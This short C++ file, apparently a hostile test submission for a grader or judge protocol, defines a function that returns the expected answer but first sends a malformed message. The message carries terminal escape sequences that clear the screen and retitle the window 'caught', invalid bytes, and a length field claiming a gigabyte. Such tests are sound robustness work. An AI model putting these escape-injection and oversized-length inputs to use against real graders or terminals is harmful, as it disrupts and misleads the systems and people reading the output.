#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  const std::string type = attack::with_length("\033[2J\033]0;caught\007\xff\xfe");
  attack::send(attack::with_length("\2" + type + attack::bytes_of(1UL << 30) + "text"));
  return attack::answer(values);
}
